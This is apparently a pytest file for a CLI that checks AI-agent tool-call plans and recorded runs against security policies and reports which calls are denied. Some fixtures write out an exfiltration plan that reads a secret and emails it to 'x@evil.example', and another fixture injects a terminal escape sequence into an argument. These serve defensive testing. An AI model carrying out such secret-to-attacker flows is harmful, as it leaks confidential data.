"""`sqrt plan`, `sqrt replay` and the plan view of `sqrt inspect --policy`."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from sqrt_tools.cli.app import app

ROOT = Path(__file__).resolve().parents[2]
RESULTS = ROOT / "examples" / "results"
POLICIES = RESULTS / "policies"
runner = CliRunner()


def run(*args: str, stdin: str | None = None) -> Any:
    return runner.invoke(app, list(args), input=stdin, env={"COLUMNS": "200"})


def test_plan_exits_1_on_a_run_it_predicts_denied_and_says_why() -> None:
    result = run(
        "plan",
        str(RESULTS / "denial.chat.json"),
        "--policy",
        str(POLICIES / "confidential-email.sqrt"),
    )
    assert result.exit_code == 1, result.output
    assert "line 8: send_email -> denied (hard_denied)" in result.stdout
    assert "because body.tags = {__non_executable, confidential}" in result.stdout
    assert "(recorded: namespace snapshot)" in result.stdout
    assert "3 calls: 2 allowed, 1 denied, 0 depend on values" in result.stdout


def test_plan_exits_0_when_nothing_is_denied() -> None:
    result = run("plan", str(RESULTS / "exchange.http"), "--policy", str(POLICIES / "inbox.sqrt"))
    assert result.exit_code == 0, result.output
    assert "the run recorded the session as tags {read_inbox}" in result.stdout


def test_plan_json_is_one_object_per_run_with_the_dataflow(tmp_path: Path) -> None:
    result = run(
        "plan", str(RESULTS / "runs.jsonl"), "--policy", str(POLICIES / "inbox.sqrt"), "--json"
    )
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["source"].rsplit("/", 1)[-1] for line in lines] == [
        "runs.jsonl:1",
        "runs.jsonl:3",
        "runs.jsonl:4",
    ]
    first = lines[0]
    assert [call["tool"] for call in first["calls"]] == ["get_received_emails", "parse_with_ai"]
    parse = first["calls"][1]
    assert parse["outcome"] == "allowed" and parse["verdicts"] == ["soft_allowed"]
    data = next(arg for arg in parse["arguments"] if arg["name"] == "data")
    assert data["meta_source"] == "recorded" and data["recorded_in"] == "namespace snapshot"
    edges = {(edge["source"], edge["target"]) for edge in first["dataflow"]["edges"]}
    assert ("call:1", "emails@1") in edges and ("invoice_email@2", "call:2") in edges
    assert "tool-call turn" in result.stderr  # the second record waits for tool results


def test_a_bare_py_plan_is_analysed_and_outside_constructs_are_reported(tmp_path: Path) -> None:
    plan = tmp_path / "plan.py"
    plan.write_text(
        "import json\n"
        "def helper(x):\n    return x\n"
        'doc = read_secret(id="1")\n'
        "with open('x') as f:\n    pass\n"
        'send_email(to="x@evil.example", body=json.dumps(doc))\n',
        encoding="utf-8",
    )
    policy = tmp_path / "p.sqrt"
    policy.write_text(
        'tool "read_secret" -> @tags |= {"secret"};\n'
        'tool "send_email" { must deny when body.tags overlaps {"secret"}; }\n',
        encoding="utf-8",
    )
    result = run("plan", str(plan), "--policy", str(policy))
    assert result.exit_code == 1, result.output
    assert "line 1: outside the planner's subset: an import" in result.stdout
    assert "line 2: outside the planner's subset: a function definition (helper)" in result.stdout
    assert "line 5: outside the planner's subset: a `with` block" in result.stdout
    assert "line 7: send_email -> denied (hard_denied)" in result.stdout


def test_positional_arguments_are_named_by_tool_definitions(tmp_path: Path) -> None:
    plan = tmp_path / "plan.py"
    plan.write_text('send_email("bob@example.com", "hi", "body")\n', encoding="utf-8")
    policy = tmp_path / "p.sqrt"
    policy.write_text(
        'tool "send_email" { must deny when not to.value in {w"*@example.com"}; }\n',
        encoding="utf-8",
    )
    tools = str(ROOT / "examples" / "tools" / "email.openai.json")
    named = run("plan", str(plan), "--policy", str(policy), "--tools", tools, "--json")
    call = json.loads(named.stdout)["calls"][0]
    assert call["arguments"][0]["name"] == "to" and call["outcome"] == "allowed"
    unnamed = run("plan", str(plan), "--policy", str(policy), "--json")
    call = json.loads(unnamed.stdout)["calls"][0]
    assert call["arguments"][0]["name"] == "#1" and call["outcome"] == "denied"
    assert any("give --tools" in note for note in call["notes"])


def test_plan_reports_bad_input_in_one_line_with_exit_2(tmp_path: Path) -> None:
    bad = tmp_path / "bad.sqrt"
    bad.write_text('tool "t" { must deny when x.value in {r"("}; }', encoding="utf-8")
    result = run("plan", str(RESULTS / "document.json"), "--policy", str(bad))
    assert result.exit_code == 2 and "bad.sqrt:1:" in result.stderr
    missing = run("plan", str(RESULTS / "document.json"))
    assert missing.exit_code == 2 and "--policy POLICY is required" in missing.stderr
    broken = run(
        "plan", str(RESULTS / "malformed-truncated.json"), "--policy", str(POLICIES / "inbox.sqrt")
    )
    assert broken.exit_code == 2 and "was it truncated?" in broken.stderr
    branching = run(
        "plan",
        str(RESULTS / "document.json"),
        "--policy",
        str(POLICIES / "inbox.sqrt"),
        "--presets",
        '{"branching_meta_policy": {"mode": "sometimes"}}',
    )
    assert branching.exit_code == 2
    assert "--presets: `branching_meta_policy.mode`" in branching.stderr
    assert "Traceback" not in result.stderr + missing.stderr + broken.stderr + branching.stderr


def test_plan_escapes_control_characters_from_the_program(tmp_path: Path) -> None:
    plan = tmp_path / "plan.py"
    plan.write_text('send(to="\\x1b[31mred")\n', encoding="utf-8")
    policy = tmp_path / "p.sqrt"
    policy.write_text('tool "send" { must deny when to.value in {"x"}; }\n', encoding="utf-8")
    result = run("plan", str(plan), "--policy", str(policy))
    assert "\x1b" not in result.stdout and "red" in result.stdout


def test_replay_lists_changed_calls_first_and_exits_1() -> None:
    result = run(
        "replay",
        str(RESULTS / "denial.chat.json"),
        str(RESULTS / "exchange.http"),
        "--policy",
        str(POLICIES / "inbox.sqrt"),
    )
    assert result.exit_code == 1, result.output
    lines = result.stdout.splitlines()
    denial = lines.index(f"{RESULTS / 'denial.chat.json'}: 2 of 3 recorded calls change")
    assert (
        "check 2 (line 2) parse_with_ai: recorded default_allowed, now soft_allowed"
        in lines[denial + 1]
    )
    assert "denied -> allowed" in lines[denial + 3]
    assert "unchanged" in lines[denial + 5]
    assert any(line.split() == ["denied", "->", "allowed", "1"] for line in lines)
    assert any(line.split() == ["runs", "2"] for line in lines)


def test_replay_under_the_policy_the_runs_used_changes_nothing() -> None:
    result = run(
        "replay",
        str(RESULTS / "success-tags.chat.json"),
        str(RESULTS / "exchange.http"),
        "--policy",
        str(POLICIES / "inbox.sqrt"),
        "--json",
    )
    assert result.exit_code == 0, result.output
    *runs, summary = [json.loads(line) for line in result.stdout.splitlines()]
    assert [run_["changed"] for run_ in runs] == [0, 0]
    assert summary["summary"]["recorded calls"] == 4
    assert summary["summary"]["unchanged"] == 4


def test_inspect_with_a_policy_shows_the_plan_view() -> None:
    result = run(
        "inspect",
        str(RESULTS / "denial.chat.json"),
        "--policy",
        str(POLICIES / "confidential-email.sqrt"),
        "--only",
        "status",
        "--color",
        "never",
    )
    assert result.exit_code == 0, result.output  # inspect's exit codes are unchanged
    lines = result.stdout.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("plan view under"))
    listing = lines[start + 1 :]
    assert listing[0].startswith("1 | report = read_file(") and listing[0].endswith(
        "<- read_file: allowed"
    )
    denied = next(line for line in listing if line.startswith("8 |"))
    assert denied.endswith("<- send_email: DENIED")
    assert "because body.tags" in listing[listing.index(denied) + 1]
    as_json = run(
        "inspect",
        str(RESULTS / "denial.chat.json"),
        "--policy",
        str(POLICIES / "confidential-email.sqrt"),
        "--json",
    )
    plan = json.loads(as_json.stdout)["plan"]
    assert [call["outcome"] for call in plan["calls"]] == ["allowed", "allowed", "denied"]


def test_replay_decides_each_recorded_run_of_a_call_in_a_loop(tmp_path: Path) -> None:
    document = {
        "status": "success",
        "program": (
            'for to in ["a@corp.example", "x@evil.example"]:\n    send_email(to=to, body="hi")\n'
        ),
        "policy_check_history": [
            {
                "tool_name": "send_email",
                "args": {"to": "a@corp.example"},
                "final_verdict": "default_allowed",
            },
            {
                "tool_name": "send_email",
                "args": {"to": "x@evil.example"},
                "final_verdict": "default_allowed",
            },
        ],
    }
    run_file = tmp_path / "run.json"
    run_file.write_text(json.dumps(document), encoding="utf-8")
    policy = tmp_path / "new.sqrt"
    policy.write_text(
        'tool "send_email" { must deny when not to.value in {w"*@corp.example"}; }\n',
        encoding="utf-8",
    )
    result = run("replay", str(run_file), "--policy", str(policy), "--json")
    first, _summary = (json.loads(line) for line in result.stdout.splitlines())
    changes = {call["check"]: call["change"] for call in first["calls"]}
    assert changes == {1: "unchanged", 2: "allowed -> denied"}
    assert result.exit_code == 1


def test_the_readme_names_every_key_of_the_plan_json() -> None:
    result = run(
        "plan",
        str(RESULTS / "denial.chat.json"),
        "--policy",
        str(POLICIES / "confidential-email.sqrt"),
        "--json",
    )
    plan = json.loads(result.stdout)
    section = (ROOT / "README.md").read_text(encoding="utf-8").split("## Plan analysis", 1)[1]
    keys = set(plan) | set(plan["calls"][0]) | set(plan["calls"][0]["arguments"][0])
    keys |= set(plan["control_flow"][0] if plan["control_flow"] else {})
    keys |= set(plan["dataflow"]["nodes"][0]) | set(plan["dataflow"]["edges"][0])
    keys -= {"version"}
    missing = sorted(key for key in keys if f"`{key}`" not in section)
    assert missing == []
